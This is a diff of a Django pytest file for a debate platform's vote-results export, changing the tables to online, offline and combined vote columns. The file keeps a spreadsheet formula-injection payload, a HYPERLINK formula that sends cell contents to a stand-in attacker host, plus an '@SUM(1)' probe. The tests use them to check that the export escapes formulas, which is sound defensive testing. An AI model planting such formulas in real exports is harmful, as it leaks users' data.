@@ -16,6 +16,7 @@ from tests.factories import CitizenFactory, agency_admin
 
 pytestmark = pytest.mark.django_db
 
+SPLIT_HEADER = ("Option", "Online", "Offline (hall)", "Combined")
 MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 
@@ -91,9 +92,9 @@ def test_pro_con_results_one_row_per_option(client, agency):
     client.force_login(admin)
     rows = results(client, agency, debate)
     assert rows[1][:2] == ("Title", MALICIOUS) and ("Participants", 6) in [r[:2] for r in rows]
-    table = rows[rows.index(("Option", "Votes")) + 1:]
-    assert table[:3] == [("찬성", 2), ("반대", 3), ("기타", 1)]
-    assert ("Other (written)", "@SUM(1)") in table
+    table = rows[rows.index(SPLIT_HEADER) + 1:]
+    assert table[:4] == [("찬성", 2, 0, 2), ("반대", 3, 0, 3), ("기타", 1, 0, 1), ("Total", 6, 0, 6)]
+    assert ("Other (written)", "@SUM(1)") in [r[:2] for r in table]
     book = openpyxl.load_workbook(io.BytesIO(client.get(
         site_reverse(agency, "manage_debate_results_export", pk=debate.pk)).content))
     assert book.active["B2"].data_type == "s" and book.active["B2"].quotePrefix
@@ -116,14 +117,15 @@ def test_multiple_choice_and_research_results(client, agency):
         BallotChoice.objects.create(ballot=ballot, option=option)
     client.force_login(admin)
     rows = results(client, agency, choice)
-    table = rows[rows.index(("Option", "Votes")) + 1:]
-    assert table == [("가", 2), ("나", 1), ("다", 0)]
+    table = rows[rows.index(SPLIT_HEADER) + 1:]
+    assert table == [("가", 2, 0, 2), ("나", 1, 0, 1), ("다", 0, 0, 0), ("Total", 3, 0, 3)]
     rows = results(client, agency, research)
-    assert ("Question 1", "몇 번?") in rows and ("Question 2", "무엇을?") in rows
-    second = rows[rows.index(("Question 2", "무엇을?")):]
-    assert second[1] == ("Answered", 1) and second[3:5] == [("좌석", 1), ("음식", 1)]
-    first = rows[rows.index(("Question 1", "몇 번?")):]
-    assert first[3:5] == [("0", 0), ("1+", 1)]
+    assert ("Question 1", "몇 번?", None, None) in rows and ("Question 2", "무엇을?", None, None) in rows
+    second = rows[rows.index(("Question 2", "무엇을?", None, None)):]
+    assert second[1][:2] == ("Answered", 1) and second[2] == SPLIT_HEADER
+    assert second[3:6] == [("좌석", 1, 0, 1), ("음식", 1, 0, 1), ("Total", 2, 0, 2)]
+    first = rows[rows.index(("Question 1", "몇 번?", None, None)):]
+    assert first[3:5] == [("0", 0, 0, 0), ("1+", 1, 0, 1)]
 
 
 def test_discussion_results_rank_opinions_by_support(client, agency):
